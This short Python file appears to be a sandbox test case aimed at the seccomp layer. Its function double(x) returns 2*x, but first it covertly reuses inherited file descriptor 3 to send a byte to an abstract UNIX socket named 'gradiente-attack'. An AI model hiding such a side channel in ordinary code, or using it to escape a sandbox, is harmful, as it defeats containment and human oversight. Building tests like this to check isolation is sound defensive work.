"""
aim: send messages elsewhere over the one socket it has
layer: seccomp
levels: A B C D
"""

import os
import socket


def double(x):
    ours = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=os.dup(3))
    try:
        ours.connect("\0gradiente-attack")
    except OSError:
        ours.sendto(b"x", "\0gradiente-attack")
    return 2 * x
